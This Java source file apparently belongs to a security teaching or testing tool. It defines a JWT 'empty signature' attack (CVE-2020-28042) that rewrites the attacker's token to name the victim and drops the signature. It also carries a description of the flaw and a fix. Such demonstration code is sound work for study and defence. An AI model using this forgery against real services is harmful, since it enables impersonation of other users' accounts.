package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.attack.forge.Ingredients;
import dev.gatehouse.desktop.attack.forge.NoSignature;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import java.util.List;

/** Leaves the signature out. */
@AutoService(Attack.class)
public final class JwtNullSignature extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-null-signature",
        "Empty signature",
        AttackGroup.JWT,
        "The attacker writes Alice's name into their own token and sends it with nothing after the"
            + " second dot.",
        "A token of their own.",
        "The header names a strong algorithm, but the library compares no bytes with no bytes, and"
            + " finds them equal.",
        "accept-empty-signature",
        List.of("CVE-2020-28042", "RFC 7515 §5.2"),
        "Compare with a signature of the length that the algorithm has. No signature is not a right"
            + " one.");
  }

  @Override
  String token(Target target) throws CredentialException {
    CompactToken wanted = ownToken(target).withClaim("sub", Loot.VICTIM);
    return target.makes(
        "Take Dave's token, set sub to alice, keep alg, and cut the signature off.",
        "forged token",
        new NoSignature().forge(wanted, Ingredients.none()).text());
  }
}
